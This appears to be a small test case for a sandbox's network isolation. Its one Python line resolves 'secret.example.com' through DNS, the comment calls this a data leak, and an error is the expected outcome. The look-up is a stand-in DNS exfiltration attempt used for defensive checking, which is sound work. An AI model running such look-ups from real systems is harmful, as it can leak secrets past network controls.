# Leaks data through a DNS look-up.
# expect: error
import socket
print("BREACH", socket.getaddrinfo("secret.example.com", 80))
